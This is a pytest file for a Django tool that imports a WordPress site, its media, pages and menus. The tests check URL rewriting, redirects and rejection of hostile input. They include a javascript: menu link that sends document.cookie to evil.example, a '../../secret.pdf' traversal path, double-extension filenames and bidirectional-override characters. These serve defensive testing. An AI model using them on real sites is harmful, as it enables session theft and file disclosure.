"""Moving in completely: fixtures/moving.xml with its media, from a folder and from the old site."""

import io
import re
from urllib.parse import unquote

import pytest
from django.conf import settings
from django.core.files.storage import default_storage
from django.core.management import call_command
from taggit.models import Tag

from articles.models import Article, Author, Category
from comments.models import Reply
from library.models import Image
from pages.models import Menu, MenuItem, Page
from wordpress.importer import media as media_module
from wordpress.models import ImportedFile, ImportedObject, LegacyURL

from .conftest import FIXTURES
from .media import ALL_FILES, OldSite, write_uploads

MOVING = FIXTURES / "moving.xml"
OLD = "https://old.example.org"


@pytest.fixture
def importing(db):
    def run(path=MOVING, **options) -> str:
        out = io.StringIO()
        call_command("import_wordpress", str(path), stdout=out, **options)
        return out.getvalue()

    return run


@pytest.fixture
def uploads(tmp_path):
    return write_uploads(tmp_path / "uploads")


def article(wp_id: int) -> Article:
    return Article.objects.get(pk=ImportedObject.objects.get(kind="post", wp_key=str(wp_id)).object_id)


def sizes() -> dict:
    models = [Article, Author, Category, Tag, Reply, Image, ImportedFile, ImportedObject, LegacyURL, Page,
              Menu, MenuItem]  # fmt: skip
    return {model.__name__: model.objects.count() for model in models}


def srcs(html: str) -> list[str]:
    """Every address an image, player (and its poster) or srcset in ``html`` loads."""
    found = re.findall(r'<(?:img|audio|video|source)\b[^>]*?\s(?:src|poster)="([^"]*)"', html)
    for srcset in re.findall(r'srcset="([^"]*)"', html):
        found += [part.split()[0] for part in srcset.split(",")]
    return found


def assert_moved_in(client, old_host: str) -> None:
    """No body names the old site; every image and player loads from here; readers' pages agree."""
    for imported in Article.objects.all():
        assert old_host not in imported.body, (imported.title, imported.body)
        assert "/wp-content/" not in imported.body, (imported.title, imported.body)
        for src in srcs(imported.body):
            assert src.startswith(settings.MEDIA_URL), (imported.title, src)
    for imported in Page.objects.all():
        assert old_host not in imported.body, (imported.title, imported.body)
        assert all(src.startswith(settings.MEDIA_URL) for src in srcs(imported.body))
    assert not MenuItem.objects.filter(url__contains=old_host).exists()
    for path in [article(n).get_absolute_url() for n in (401, 402, 403)] + ["/about/staff/", "/"]:
        page = client.get(path).content.decode()
        assert old_host not in page, path
        assert all(src.startswith(("/media/", "/static/")) for src in srcs(page)), path
        for src in srcs(page):  # and each file is here to be served
            if src.startswith(settings.MEDIA_URL):
                assert default_storage.exists(unquote(src.removeprefix(settings.MEDIA_URL))), (path, src)


def test_with_a_copy_of_the_uploads_folder_everything_is_served_from_here(importing, uploads, client):
    output = importing(media_dir=str(uploads))
    assert "media: 7 new" in output
    assert (
        "media files: audios imported 1, documents imported 1, images imported 4, videos imported 1" in output
    )
    assert Image.objects.count() == 4 and ImportedFile.objects.count() == 3
    assert_moved_in(client, "old.example.org")
    # Featured images are set, so the article's JSON-LD and og:image have a picture.
    bazaar = article(401)
    assert bazaar.featured_image.alt_text == "Spice stalls in the old bazaar"
    page = client.get(bazaar.get_absolute_url()).content.decode()
    assert '<meta property="og:image"' in page and '"image": []' not in page


def test_every_way_a_body_names_the_old_site_is_rewritten(importing, uploads, tmp_path, client):
    """Relative, protocol-relative, http:// and www. addresses of uploads, in src, srcset and links."""
    written = (
        '<img src="/wp-content/uploads/2019/06/bazaar-300x200.jpg" alt="Relative" srcset="'
        "/wp-content/uploads/2019/06/bazaar-300x200.jpg 300w, "
        '//old.example.org/wp-content/uploads/2019/06/bazaar-1024x683.jpg 1024w">'
        '\n\n<a href="http://www.old.example.org/wp-content/uploads/2019/06/report.pdf">The report</a>'
        '\n\n<a href="//old.example.org/wp-content/uploads/2019/06/bazaar.jpg">'
        '<img src="http://old.example.org/wp-content/uploads/2019/06/bazaar-150x150.jpg" alt="Thumb"></a>'
        '\n\n<a href="/wp-content/uploads/2019/06/interview.mp3">Listen</a>'
        '\n\nRead <a href="/?p=402">the peaks</a>, <a href="/?page_id=302">our staff</a>, '
        '<a href="/?p=405">a draft</a> and <a href="/search/?q=dam">more</a>.'
    )
    export = tmp_path / "export.xml"
    export.write_text(
        MOVING.read_text(encoding="utf-8").replace(
            "A title with no space to break it.]]>", f"A title with no space to break it.\n\n{written}]]>"
        ),
        encoding="utf-8",
    )
    importing(export, media_dir=str(uploads))
    body = article(404).body
    assert "/wp-content/" not in body and "old.example.org" not in body
    bazaar = Image.objects.get(alt_text="Spice stalls in the old bazaar")
    assert body.count(f'src="{bazaar.src}"') == 2 and "srcset=" in body
    assert f'<a href="{bazaar.largest()[0]}"' in body
    assert f'<a href="{ImportedFile.objects.get(type="document").file.url}"' in body
    assert f'<a href="{ImportedFile.objects.get(type="audio").file.url}"' in body
    # Relative links to old posts and pages lead straight to their new addresses (no redirect on the
    # way); one to a draft keeps its words; one to an address of this site stays.
    assert f'<a href="{article(402).get_absolute_url()}" rel="noopener noreferrer">the peaks</a>' in body
    assert '<a href="/about/staff/" rel="noopener noreferrer">our staff</a>' in body
    assert ", a draft and " in body and "?p=405" not in body
    assert '<a href="/search/?q=dam" rel="noopener noreferrer">more</a>' in body
    assert_moved_in(client, "old.example.org")


def test_library_images_keep_title_alt_caption(importing, uploads):
    importing(media_dir=str(uploads))
    image = Image.objects.get(pk=ImportedObject.objects.get(kind="media", wp_key="501").object_id)
    assert (image.alt_text, image.caption) == ("Spice stalls in the old bazaar", "The old bazaar at noon.")
    assert image.renditions["sizes"]
    assert ImportedFile.objects.get(type="document").title == "Annual report"


def test_size_variants_captions_and_links_to_files_become_the_library_image(importing, uploads):
    importing(media_dir=str(uploads))
    body = article(401).body
    bazaar = Image.objects.get(alt_text="Spice stalls in the old bazaar")
    # bazaar-300x200.jpg in a [caption], inside a link to the full-size file (now its largest rendition).
    largest = bazaar.largest()[0]
    assert f'<figure><a href="{largest}" rel="noopener noreferrer"><img src="{bazaar.src}"' in body
    assert "srcset=" in body and "Spice stalls at noon.</figcaption>" in body
    assert ImportedFile.objects.get(type="document").file.url in body  # the PDF link
    # WordPress 5.3's "-scaled" upload and its unscaled original name the same image.
    peaks = Image.objects.get(alt_text="Snow on the peaks")
    assert article(402).body.count(f'src="{peaks.src}"') >= 2


def test_galleries_become_figure_grids_of_library_images(importing, uploads):
    importing(media_dir=str(uploads))
    attached = article(401).body  # [gallery]: the images attached to the post, in their order
    grid = re.search(r'<figure class="gallery gallery-columns-3">(.*?)</figure>\s*</figure>', attached, re.S)
    assert grid and grid.group(1).count("<img") == 2
    assert 'alt="Spice stalls in the old bazaar"' in grid.group(1)
    peaks = article(402).body
    assert '<figure class="gallery gallery-columns-2">' in peaks  # [gallery ids=… columns=2] and the block
    assert peaks.count('class="gallery') == 2
    assert "<figcaption>Water for the city.</figcaption></figure>" in peaks
    assert 'alt="The dam"' in peaks and "<figcaption>The dam.</figcaption>" in peaks


def test_embeds_are_link_cards_without_third_party_code(importing, uploads, client):
    importing(media_dir=str(uploads))
    bazaar, peaks = article(401).body, article(402).body
    assert '<a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"' in bazaar
    assert '<span class="embed-provider">Vimeo</span>' in bazaar
    assert (
        '<span class="embed-provider">YouTube</span> <strong class="embed-title">Watch on YouTube</strong> '
        '<span class="embed-address">youtube.com/watch?v=aqz-KE-bpKQ</span>'
    ) in peaks
    assert "<figcaption>Drone footage of the range.</figcaption>" in peaks
    assert '<span class="embed-provider">X</span> <strong class="embed-title">View on X</strong>' in peaks
    page = client.get(article(402).get_absolute_url())
    html = page.content.decode()
    assert "<iframe" not in html and "youtube.com/embed" not in html
    assert (
        "frame-src" not in page["Content-Security-Policy"] or "youtube" not in page["Content-Security-Policy"]
    )


def test_audio_and_video_play_the_imported_file_or_link_elsewhere(importing, uploads):
    importing(media_dir=str(uploads))
    mp3 = ImportedFile.objects.get(type="audio").file.url
    mp4 = ImportedFile.objects.get(type="video").file.url
    assert f'<audio controls="" preload="metadata" src="{mp3}">' in article(401).body  # [audio mp3=…]
    peaks = article(402).body
    assert f'src="{mp3}"' in peaks and f'<video controls="" preload="metadata" src="{mp4}">' in peaks
    interview = article(403).body
    assert f'src="{mp3}"' in interview and f'src="{mp4}"' in interview
    assert '<a href="https://cdn.elsewhere.example/clip.mp4"' in interview  # a file elsewhere: a link


def test_links_to_old_posts_categories_and_tags_lead_to_their_new_addresses(importing, uploads):
    importing(media_dir=str(uploads))
    body = article(401).body
    assert f'<a href="{article(402).get_absolute_url()}"' in body
    assert '<a href="/category/news/"' in body
    city = Tag.objects.get(slug="kabul-city")
    assert f'<a href="/tag/{city.slug}/"' in body
    # A draft has no public address: its link is removed, its words stay.
    assert "a piece still in draft" in body and "?p=405" not in body
    assert f'href="{article(401).get_absolute_url()}"' in article(402).body  # a block button


def test_old_attachment_addresses_redirect_to_the_image(importing, uploads, client):
    importing(media_dir=str(uploads))
    bazaar = Image.objects.get(alt_text="Spice stalls in the old bazaar")
    largest = bazaar.largest()[0]
    for old in ("/?attachment_id=501", "/2019/06/03/inside-the-old-bazaar/bazaar/", "/?p=501"):
        response = client.get(old)
        assert response.status_code == 301, old
        assert response["Location"] == largest
    assert client.get("/?attachment_id=999").status_code == 404
    assert client.get("/?p=405").status_code == 404  # a draft
    assert client.get("/?p=401")["Location"] == article(401).get_absolute_url()


def test_authors_pingbacks_tags_and_drafts(importing, uploads):
    output = importing(media_dir=str(uploads))
    # ">themereviewteam" is the export's themereviewteam; "<b>ghost</b>" is nobody: no bogus author.
    assert sorted(Author.objects.values_list("name", flat=True)) == ["Nadia Karimi", "Theme Review Team"]
    assert [a.name for a in article(401).ordered_authors()] == ["Theme Review Team"]
    assert article(403).ordered_authors() == []
    assert "Post 403 names the author '<b>ghost</b>'" in output
    # Two tags named "Kabul" with different slugs stay two tags.
    assert set(article(401).tags.values_list("slug", flat=True)) == {"kabul", "kabul-city"}
    assert Tag.objects.filter(name__startswith="Kabul").count() == 2
    # Pingbacks and trackbacks are counted as skipped, never made replies.
    assert "pingbacks (links from other sites, never shown here) 1" in output
    assert "trackbacks (links from other sites, never shown here) 1" in output
    assert list(Reply.objects.values_list("body", flat=True)) == ["Lovely photos."]
    draft = article(405)
    assert draft.status == Article.Status.DRAFT and draft.publish_at is None


def test_pages_keep_their_hierarchy_and_old_addresses(importing, uploads, client):
    output = importing(media_dir=str(uploads))
    assert "pages: 4 new" in output
    about, staff = Page.objects.get(slug="about"), Page.objects.get(slug="staff")
    assert staff.parent == about and staff.get_absolute_url() == "/about/staff/"
    assert Page.objects.get(slug="plans").status == Page.Status.DRAFT
    assert client.get("/about/staff/").status_code == 200
    assert client.get("/?page_id=302")["Location"] == "/about/staff/"
    assert client.get("/?page_id=304").status_code == 404  # a draft page
    assert '<a href="/about/staff/"' in about.body  # links between pages are rewritten too
    assert 'src="/media/' in staff.body and "old.example.org" not in staff.body
    # A post's link to a page: resolved once the pages are in.
    assert '<a href="/about/staff/" rel="noopener noreferrer">who we are</a>' in article(401).body


def test_a_page_deeper_than_one_level_sits_under_its_top_level_ancestor(importing, uploads, tmp_path, client):
    staff = MOVING.read_text(encoding="utf-8").split("\t<item>")
    page = next(part for part in staff if "<wp:post_id>302</wp:post_id>" in part)
    grandchild = (
        page.replace("<wp:post_id>302</wp:post_id>", "<wp:post_id>305</wp:post_id>")
        .replace("<wp:post_parent>301</wp:post_parent>", "<wp:post_parent>302</wp:post_parent>")
        .replace("[CDATA[staff]]", "[CDATA[editors]]")
        .replace("[CDATA[Staff]]", "[CDATA[Editors]]")
        .replace("/about/staff/</link>", "/about/staff/editors/</link>")
    )
    export = tmp_path / "deep.xml"
    export.write_text(
        MOVING.read_text(encoding="utf-8").replace("</channel>", f"\t<item>{grandchild}</channel>")
    )
    importing(export, media_dir=str(uploads))
    editors = Page.objects.get(slug="editors")
    assert editors.parent == Page.objects.get(slug="about")
    assert client.get("/about/staff/editors/")["Location"] == "/about/editors/"
    assert client.get("/?page_id=305")["Location"] == "/about/editors/"


def test_the_menu_becomes_the_main_navigation(importing, uploads, client):
    output = importing(media_dir=str(uploads))
    assert "menus: 1 new" in output and "menu items: 5 new" in output
    menu = Menu.objects.get(location=Menu.Location.MAIN)
    assert menu.label == "Main menu"
    items = [(i.text, i.href, i.parent.text if i.parent else None) for i in menu.items.order_by("position")]
    assert items == [
        ("About us", "/about/", None),
        ("Staff", "/about/staff/", "About us"),  # nested under its parent item
        ("All news", "/category/news/", None),
        ("Kabul", "/tag/kabul/", None),  # a custom link to the old site, now to the tag here
        ("Archive", "https://archive.example.net/", None),
    ]
    header = client.get("/").content.decode()
    assert '<a href="/about/staff/"' in header and "All news" in header
    # The old addresses of what the menu linked lead to the same place as its items here.
    for old, new in [("/?page_id=301", "/about/"), ("/?page_id=302", "/about/staff/"), ("/about/", "/about/"),
                     ("/category/news/", "/category/news/"), ("/tag/kabul/", "/tag/kabul/")]:  # fmt: skip
        response = client.get(old, follow=True)
        assert (response.status_code, response.request["PATH_INFO"]) == (200, new), old


def test_a_menu_arranged_here_is_not_replaced(importing, uploads):
    for location in (Menu.Location.MAIN, Menu.Location.FOOTER):
        menu = Menu.objects.create(location=location, label="Ours")
        MenuItem.objects.create(menu=menu, url="https://example.org/", label="Ours", position=1)
    output = importing(media_dir=str(uploads))
    assert "Menu “Main menu” was not imported" in output
    assert MenuItem.objects.count() == 2


def test_running_it_twice_changes_nothing(importing, uploads):
    importing(media_dir=str(uploads))
    before = sizes()
    bodies = dict(Article.objects.values_list("pk", "body"))
    output = importing(media_dir=str(uploads))
    assert sizes() == before
    assert dict(Article.objects.values_list("pk", "body")) == bodies
    assert "media: 0 new, 0 updated, 7 unchanged" in output
    assert "articles: 0 new, 0 updated, 5 unchanged" in output
    assert "pages: 0 new, 0 updated, 4 unchanged" in output
    assert "menu items: 0 new, 0 updated, 5 unchanged" in output


def test_half_the_media_missing_completes_and_lists_them(importing, tmp_path, client):
    present = ALL_FILES[::2]
    folder = write_uploads(tmp_path / "half", only=present)
    output = importing(media_dir=str(folder))
    missing = [path for path in ALL_FILES if path not in present]
    assert f"missing files ({len(missing) + 1})" in output  # and the old theme's divider image
    for path in missing:
        assert f"{OLD}/wp-content/uploads/{path}: not in {folder}" in output
    assert re.search(r"river\.jpg: not in \S+; used by WordPress post/page 302, 401, 402", output)
    assert Article.objects.count() == 5
    assert_moved_in(client, "old.example.org")  # a missing image leaves its alt text, not a broken one
    assert "The Kabul river in spring" in article(401).body
    # The files arrive later: the next run imports them and completes the posts that use them.
    write_uploads(folder, only=missing)
    output = importing(media_dir=str(folder))
    assert f"media: {len(missing)} new" in output
    river = Image.objects.get(alt_text="The Kabul river in spring")
    assert f'src="{river.src}"' in article(401).body


def test_fetch_media_downloads_from_the_old_site_once(importing, uploads, tmp_path, client):
    with OldSite(uploads) as site:
        export = tmp_path / "export.xml"
        export.write_text(MOVING.read_text(encoding="utf-8").replace(OLD, site.url), encoding="utf-8")
        output = importing(export, fetch_media=True)
        assert "media: 7 new" in output and "missing files" in output  # only the theme's divider
        assert site.requests["/wp-content/uploads/2019/06/bazaar.jpg"] == 1
        assert_moved_in(client, site.url.removeprefix("http://"))
        before = sum(site.requests.values())
        output = importing(export, fetch_media=True)
        assert sum(site.requests.values()) == before  # resumable: nothing fetched twice
        assert "media: 0 new, 0 updated, 7 unchanged" in output


@pytest.mark.parametrize(
    "path, reason",
    [
        ("missing/bazaar.jpg", "the old site answered 404"),
        ("html/bazaar.jpg", "the old site sent a text/html page instead of the file"),
        ("huge/bazaar.jpg", "the old site says the file is 900 MB, over 10 MB"),
        ("slow/bazaar.jpg", "could not be downloaded (timed out)"),
        ("fake/bazaar.jpg", "This file is not an image we can read"),
    ],
)
def test_fetch_failures_are_warnings_with_the_reason(importing, uploads, tmp_path, monkeypatch, path, reason):
    monkeypatch.setattr(media_module, "FETCH_TIMEOUT", 1)
    (uploads / "fake").mkdir()
    (uploads / "fake" / "bazaar.jpg").write_text("<?php echo 'not an image'; ?>")
    with OldSite(uploads) as site:
        text = MOVING.read_text(encoding="utf-8").replace(OLD, site.url)
        text = text.replace(f"{site.url}/wp-content/uploads/2019/06/bazaar.jpg]]></wp:attachment_url>",
                            f"{site.url}/wp-content/uploads/{path}]]></wp:attachment_url>")  # fmt: skip
        export = tmp_path / "export.xml"
        export.write_text(text, encoding="utf-8")
        output = importing(export, fetch_media=True)
    assert f"{site.url}/wp-content/uploads/{path}: {reason}" in output
    assert "media: 6 new" in output and Article.objects.count() == 5
    assert "Spice stalls" in article(401).body  # the alt text stands in for the picture


def test_image_files_pass_the_admin_upload_checks(importing, uploads):
    (uploads / "2019" / "06" / "dam.png").write_bytes(b"GIF89a" + bytes(10))  # a broken image
    output = importing(media_dir=str(uploads))
    assert "dam.png: This file is not an image we can read" in output
    assert "images imported 3" in output and "refused 1" in output


def test_only_files_in_the_media_folder_are_read(importing, uploads, tmp_path):
    text = MOVING.read_text(encoding="utf-8").replace("2019/06/report.pdf", "../../secret.pdf")
    (tmp_path / "secret.pdf").write_bytes(b"%PDF-1.4 secret")
    export = tmp_path / "export.xml"
    export.write_text(text, encoding="utf-8")
    importing(export, media_dir=str(uploads))
    assert not ImportedFile.objects.filter(type="document").exists()


def test_dry_run_fetches_and_stores_nothing(importing, uploads):
    before = sizes()
    output = importing(media_dir=str(uploads), dry_run=True)
    assert "Would import" in output and "media: 7 new" in output
    assert "featured images: imported 2" in output and "missing files (1)" in output  # the divider only
    assert sizes() == before


def test_the_old_addresses_of_an_image_and_of_each_of_its_sizes_lead_to_it(importing, uploads, client):
    importing(media_dir=str(uploads))
    bazaar = Image.objects.get(alt_text="Spice stalls in the old bazaar")
    targets = set()
    for name in ["bazaar.jpg", "bazaar-300x200.jpg", "bazaar-1024x683.jpg", "bazaar-150x150.jpg"]:
        response = client.get(f"/wp-content/uploads/2019/06/{name}")
        assert response.status_code == 301, name
        targets.add(response["Location"])
    assert targets == {bazaar.largest()[0] or bazaar.src}
    never_made = "/wp-content/uploads/2019/06/bazaar-640x480.jpg"  # a size WordPress never made of it
    assert client.get(never_made).status_code == 404


@pytest.mark.parametrize(
    "stored_as", ["2019/06/clip.mp4?.html", "2019/06/clip.mp4#.html", "2019/06/clip.mp4.html"]
)
def test_a_file_named_to_pass_as_one_type_and_be_served_as_another_is_refused(
    importing, uploads, tmp_path, stored_as
):
    # A hostile export: the name's last extension is what the web server would go by.
    (uploads / stored_as).parent.mkdir(parents=True, exist_ok=True)
    (uploads / stored_as).write_bytes((uploads / "2019/06/clip.mp4").read_bytes())
    export = tmp_path / "export.xml"
    export.write_text(
        MOVING.read_text(encoding="utf-8").replace("[CDATA[2019/06/clip.mp4]]", f"[CDATA[{stored_as}]]"),
        encoding="utf-8",
    )
    output = importing(export, media_dir=str(uploads))
    assert not ImportedFile.objects.filter(type="video").exists()
    assert not [name for name in ImportedFile.objects.values_list("file", flat=True) if ".htm" in name]
    assert "only PDF documents are imported" in output


def test_a_menu_link_that_would_run_code_is_left_out_with_a_warning(importing, uploads, tmp_path, client):
    export = tmp_path / "export.xml"
    hostile = "javascript:fetch('//evil.example/?'+document.cookie)"
    export.write_text(
        MOVING.read_text(encoding="utf-8").replace("https://archive.example.net/", hostile), encoding="utf-8"
    )
    output = importing(export, media_dir=str(uploads))
    assert "is not a web address; left out" in output
    assert not MenuItem.objects.filter(url__icontains="script").exists()
    assert "evil.example" not in client.get("/").content.decode()


def test_imported_text_is_cleaned_as_a_readers_is(importing, uploads, tmp_path):
    """Direction overrides and isolates turn a name or title around on screen (XML 1.0 itself
    keeps control characters out of an export)."""
    text = (
        MOVING.read_text(encoding="utf-8")
        .replace("[CDATA[A Reader]]", "[CDATA[A \u202eredaeR\u202c]]")
        .replace("[CDATA[Lovely photos.]]", "[CDATA[Lovely\u2066 photos.\u2069]]")
        .replace("[CDATA[The peaks]]", "[CDATA[The \u202epeaks]]")
        # A term with no name is named by its slug, which must be cleaned as well.
        .replace(
            "<wp:category_nicename><![CDATA[culture]]></wp:category_nicename>",
            "<wp:category_nicename><![CDATA[%E2%80%AEculture]]></wp:category_nicename>",
        )
        .replace(
            "<wp:cat_name><![CDATA[Culture]]></wp:cat_name>", "<wp:cat_name><![CDATA[<b></b>]]></wp:cat_name>"
        )
        .replace(
            "[CDATA[kabul-city]]></wp:tag_slug><wp:tag_name><![CDATA[Kabul]]",
            "[CDATA[%E2%80%AEcity]]></wp:tag_slug><wp:tag_name><![CDATA[\u202e]]",
        )
        .replace("<p>Snow on the peaks", "<p>Snow &#8238;on the \u202apeaks")
    )
    export = tmp_path / "export.xml"
    export.write_text(text, encoding="utf-8")
    importing(export, media_dir=str(uploads))
    reply = Reply.objects.get(email="reader@example.net")
    assert (reply.name, reply.body) == ("A redaeR", "Lovely photos.")
    assert Article.objects.filter(title="The peaks").exists()
    names = [*Category.objects.values_list("name", flat=True), *Tag.objects.values_list("name", flat=True)]
    assert "culture" in names and "city" in names
    assert not [name for name in names if any(c in name for c in "\u202a\u202e")]
    peaks = Article.objects.get(title="The peaks")
    assert "Snow on the peaks" in peaks.body
